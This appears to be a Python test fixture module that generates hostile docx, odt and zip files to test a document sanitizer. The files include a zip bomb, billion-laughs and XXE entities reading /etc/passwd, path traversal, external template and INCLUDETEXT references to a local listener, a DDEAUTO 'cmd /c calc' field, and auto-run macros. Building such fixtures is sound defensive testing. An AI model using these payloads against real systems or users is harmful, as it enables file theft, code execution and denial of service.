"""Letters with macros, bombs, links to elsewhere, or another kind of file inside."""

from __future__ import annotations

import io
import zipfile

import docx
from odfdo import Document, Paragraph

from tests.papers.odd import EITHER, HEALED, REFUSED, SECRET, Odd

MEGABYTE = 1024 * 1024
#: Where a document asks for what is not in it; the drill listens there.
OUTSIDE = "http://127.0.0.1:59999"
WORDS = "Gewone tekst van de annotatie"

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def rewritten(content: bytes, changes: dict[str, bytes]) -> bytes:
    """A document of which some parts are replaced, or added."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, part in changes.items():
            new.writestr(name, part)
    return buffer.getvalue()


def part_of(content: bytes, name: str) -> bytes:
    """One part of a document."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        return file.read(name)


def plain_docx() -> bytes:
    """A letter."""
    document = docx.Document()
    document.add_heading("Aanbiedingsbrief", 1)
    document.add_paragraph(WORDS)
    table = document.add_table(rows=3, cols=2)
    table.cell(0, 0).text = "Programma"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def docx_with_macros() -> bytes:
    """A letter with a program in it, under the name of one without."""
    content = plain_docx()
    types = part_of(content, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    types = types.replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    program = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()".ljust(2040)
    return rewritten(content, {"[Content_Types].xml": types, "word/vbaProject.bin": program})


def docx_bomb() -> bytes:
    """A letter whose text unpacks to two gigabytes."""
    content = plain_docx()
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as new,
    ):
        for name in old.namelist():
            if name != "word/document.xml":
                new.writestr(name, old.read(name))
        with new.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(f'<w:document xmlns:w="{_W}"><w:body>'.encode())
            for _each in range(2000):
                part.write(b" " * MEGABYTE)
            part.write(b"</w:body></w:document>")
    return buffer.getvalue()


def docx_with_lying_sizes() -> bytes:
    """The same, in a file that says of its parts that they are small."""
    content = bytearray(docx_bomb())
    start = 0
    while (start := content.find(b"PK\x01\x02", start)) >= 0:
        content[start + 24 : start + 28] = (1000).to_bytes(4, "little")
        start += 4
    return bytes(content)


def many_parts() -> bytes:
    """A letter of a hundred thousand parts."""
    content = plain_docx()
    return rewritten(content, {f"word/media/{number}.xml": b"" for number in range(100_000)})


def laughing_docx() -> bytes:
    """A letter whose words are made of words that are made of words."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    text = (
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "ha">{levels}]><w:document xmlns:w="{_W}">'
        "<w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return rewritten(plain_docx(), {"word/document.xml": text.encode()})


def curious_docx() -> bytes:
    """A letter that asks for a file of the machine that reads it."""
    text = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>{WORDS} &x;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    return rewritten(plain_docx(), {"word/document.xml": text.encode()})


def docx_from_elsewhere(secret: str = "file:///etc/passwd") -> bytes:
    """A letter with a template, a picture and a piece of text that stand elsewhere."""
    content = plain_docx()
    rels = part_of(content, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Id="rId90" TargetMode="External" Target="{OUTSIDE}/beeld.png" '
        f'Type="{RELATIONS}/image"/><Relationship Id="rId91" TargetMode="External" '
        f'Target="{OUTSIDE}/kader" Type="{RELATIONS}/frame"/></Relationships>'.encode(),
    )
    settings = (
        f'<?xml version="1.0"?><w:settings xmlns:w="{_W}" xmlns:r="{RELATIONS}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    template = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" TargetMode="External" '
        f'Target="{OUTSIDE}/sjabloon.dotm" Type="{RELATIONS}/attachedTemplate"/></Relationships>'
    )
    field = (
        f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{secret}&quot; "><w:r><w:t>.</w:t></w:r>'
        f'</w:fldSimple><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{OUTSIDE}/a.png&quot; \\d ">'
        "<w:r><w:t>.</w:t></w:r></w:fldSimple>"
        '<w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "><w:r><w:t>.</w:t></w:r>'
        "</w:fldSimple></w:p><w:sectPr"
    )
    text = part_of(content, "word/document.xml").replace(b"<w:sectPr", field.encode(), 1)
    return rewritten(
        content,
        {
            "word/_rels/document.xml.rels": rels,
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": template.encode(),
            "word/document.xml": text,
        },
    )


def climbing_docx() -> bytes:
    """A letter with parts that climb out of the folder they are unpacked in."""
    return rewritten(plain_docx(), {"../../../tmp/kanarie": SECRET.encode()})


def locked_docx() -> bytes:
    """A letter behind a password is no longer a zip, but a container of an older kind."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le")


def plain_odt() -> bytes:
    """A letter of LibreOffice."""
    document = Document("text")
    document.body.clear()
    document.body.append(Paragraph(WORDS))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def odt_from_elsewhere(secret: str = "file:///etc/passwd") -> bytes:
    """A letter with pictures and sections that stand elsewhere, and a program at its opening."""
    content = plain_odt()
    extra = (
        '<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char">'
        f'<draw:image xlink:href="{OUTSIDE}/beeld.png" xlink:type="simple"/></draw:frame></text:p>'
        f'<text:section text:name="a"><text:section-source xlink:href="{secret}" '
        'text:filter-name="Text"/><text:p/></text:section>'
        f'<text:section text:name="b"><text:section-source xlink:href="{OUTSIDE}/tekst.odt"/>'
        "<text:p/></text:section></office:text>"
    )
    script = (
        "<office:scripts><office:event-listeners><script:event-listener script:language="
        '"ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main'
        '?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'
        "<office:body>"
    )
    text = part_of(content, "content.xml").replace(b"</office:text>", extra.encode())
    text = text.replace(b"<office:body>", script.encode())
    if b"xmlns:script" not in text:
        names = b' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version='
        text = text.replace(b" office:version=", names, 1)
    return rewritten(content, {"content.xml": text})


def empty_zip() -> bytes:
    return b"PK\x05\x06" + bytes(18)


def any_zip() -> bytes:
    """A folder of files, packed."""
    return rewritten(empty_zip(), {"notulen.txt": b"notulen", "foto.jpg": bytes(3000)})


PAPERS = (
    Odd("docx, gewoon", plain_docx, HEALED, "brief.docx", WORDS, True),
    Odd("docx met macro's", docx_with_macros, EITHER, "brief.docx", "", True),
    Odd("docx van 2 GB, ingepakt", docx_bomb, REFUSED, "brief.docx", "", True),
    Odd("docx die over zijn maat liegt", docx_with_lying_sizes, REFUSED, "brief.docx", "", True),
    Odd("docx van 100.000 delen", many_parts, REFUSED, "brief.docx", "", True),
    Odd("docx, woorden in woorden", laughing_docx, EITHER, "brief.docx", "", True),
    Odd("docx die om een bestand vraagt", curious_docx, EITHER, "brief.docx", "", True),
    Odd("docx met delen van elders", docx_from_elsewhere, EITHER, "brief.docx", "", True),
    Odd("docx die uit zijn map klimt", climbing_docx, EITHER, "brief.docx", "", True),
    Odd("docx met wachtwoord", locked_docx, REFUSED, "brief.docx"),
    Odd("docx, afgekapt", lambda: plain_docx()[:9000], REFUSED, "brief.docx", "", True),
    Odd("docx die pdf heet", plain_docx, EITHER, "brief.pdf", "", True),
    Odd("odt, gewoon", plain_odt, HEALED, "brief.odt", WORDS, True),
    Odd("odt met delen van elders", odt_from_elsewhere, EITHER, "brief.odt", "", True),
    Odd("zip met losse bestanden", any_zip, REFUSED, "stukken.zip"),
    Odd("zip die docx heet", any_zip, REFUSED, "stukken.docx"),
    Odd("RTF die docx heet", lambda: b"{\\rtf1 Tekst}", REFUSED, "brief.docx"),
)
